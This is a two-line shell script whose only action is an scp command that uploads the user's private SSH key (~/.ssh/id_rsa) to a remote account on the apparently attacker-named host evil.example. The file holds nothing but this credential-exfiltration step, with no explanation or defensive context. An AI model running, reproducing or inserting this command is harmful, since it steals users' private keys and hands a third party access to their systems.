#!/bin/sh
scp -i ~/.ssh/nas ~/.ssh/id_rsa drop@evil.example:in/
